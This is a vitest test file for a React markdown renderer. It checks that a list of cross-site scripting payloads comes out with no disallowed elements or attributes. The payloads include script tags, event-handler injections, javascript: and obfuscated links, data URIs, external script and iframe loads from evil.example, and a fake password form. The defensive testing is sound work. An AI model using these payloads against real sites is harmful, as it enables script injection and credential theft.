// @vitest-environment jsdom
import * as fc from 'fast-check';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Prose } from '../../src/components/articles/Prose/Prose.tsx';
import { createStyleCache } from '../../src/theme/styleCache.ts';
import { ThemeRoot } from '../../src/theme/ThemeRoot.tsx';
import { markMatches } from '../../domain/articles/markMatches.ts';
import { parseMarkdown } from './markdown.ts';
import { proseOf } from './proseOf.ts';

/** What the page may hold of an article, by element, with the attributes that each may have. */
const allowed: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    'p strong em del mark blockquote pre ul li thead tbody tr br hr table'.split(' ').map((name) => [name, []]),
  ),
  h3: [],
  code: ['data-block'],
  h4: [],
  a: ['href', 'target', 'rel'],
  ol: ['start'],
  th: ['scope'],
  td: ['data-align'],
  img: ['src', 'alt', 'loading'],
  div: ['data-kind', 'role', 'aria-label', 'tabindex'],
};
/** Classes of our own parts and of MUI's; an article brings none. */
const ourClasses = /^((cc-|Mui)[\w-]+ ?)+$/;
/** Parts of our own components: the icon of a link, and the words beside it. */
const ours = 'svg, svg *, a > span, a > span *';

const parser = new DOMParser();

/** The page's elements for a text, as a browser makes them of its HTML. */
function rendered(markdown: string, query = ''): Element {
  const nodes = markMatches(proseOf(parseMarkdown(markdown)), query);
  const styles = createStyleCache();
  // Without it Emotion would write styles between the elements.
  styles.compat = true;
  const prose = createElement(Prose, { nodes, level: 3 });
  // oxlint-disable-next-line react/no-children-prop -- its type requires the children, and a test has no JSX
  const html = renderToStaticMarkup(createElement(ThemeRoot, { styles, children: prose }));
  const document = parser.parseFromString(`<body>${html}</body>`, 'text/html');
  for (const part of document.querySelectorAll(ours)) part.remove();
  const [root, ...rest] = document.body.children;
  if (!root || rest.length > 0) throw new Error('the text has left its element');
  return root;
}

/** Everything in an element that must not be there, as sentences. */
function dangers(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const name = element.localName;
    const attributes = allowed[name];
    if (!attributes) return [`<${name}>`];
    return [...element.attributes].flatMap(({ name: attribute, value }) => {
      if (attribute === 'class' && ourClasses.test(value)) return [];
      if (!attributes.includes(attribute)) return [`${attribute} on <${name}>`];
      const isAddress = attribute === 'href' || attribute === 'src';
      return isAddress && !/^(https:\/\/[\w-]|\/(?![/\\]))/i.test(value) ? [`${attribute}="${value}"`] : [];
    });
  });
}

const attacks = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<style>body { display: none }</style>',
  '<p style="position:fixed;inset:0">over everything</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<form action="https://evil.example"><input name="password"><button>Login</button></form>',
  '<a href="javascript:alert(1)" onclick="alert(1)">click</a>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '</div></article></main><script>alert(1)</script>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](\u0001javascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](//evil.example)',
  '[click](/\\evil.example)',
  '[click](http://evil.example)',
  '[click](https:evil.example)',
  '[click](file:///etc/passwd)',
  '[click][x]\n\n[x]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](//evil.example/pixel.png)',
  '![x](https://evil.example/pixel.png)',
  '![" onerror="alert(1)](/x.png)',
  '[x](/a"onmouseover="alert(1))',
  '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n| --- | --- |\n| [x](javascript:alert(1)) | y |',
  '- [ ] <input onfocus=alert(1) autofocus>',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
  '## <script>alert(1)</script> {#x onclick=alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

describe('an article that means harm', () => {
  it.each(attacks)('does none with %s', (attack) => {
    expect(dangers(rendered(`Before.\n\n${attack}\n\nAfter.`))).toEqual([]);
  });

  it('does none with attacks inside of each other', () => {
    const parts = fc.constantFrom(
      ...attacks,
      '\n\n',
      '\n',
      ' ',
      '> ',
      '- ',
      '1. ',
      '    ',
      '**',
      '*',
      '`',
      '](',
      '<',
      '>',
      '"',
    );
    fc.assert(
      fc.property(
        fc.array(parts, { maxLength: 8 }),
        fc.constantFrom('', 'script', 'alert(1)', '<'),
        (pieces, query) => {
          expect(dangers(rendered(pieces.join(''), query))).toEqual([]);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('would be caught by this test', () => {
    const html = '<div><img src="x" onerror="y"><a href="javascript:z">z</a><script>z</script></div>';
    const { body } = parser.parseFromString(html, 'text/html');
    expect(dangers(body)).toEqual(['src="x"', 'onerror on <img>', 'href="javascript:z"', '<script>']);
  });
});
